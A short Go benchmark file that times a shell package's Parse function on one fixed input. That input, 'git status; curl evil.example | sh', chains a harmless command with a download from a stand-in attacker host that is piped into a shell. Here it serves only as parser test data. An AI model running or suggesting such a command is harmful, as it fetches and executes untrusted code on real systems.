package shell

import "testing"

func BenchmarkParse(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Parse("git status; curl evil.example | sh")
	}
}
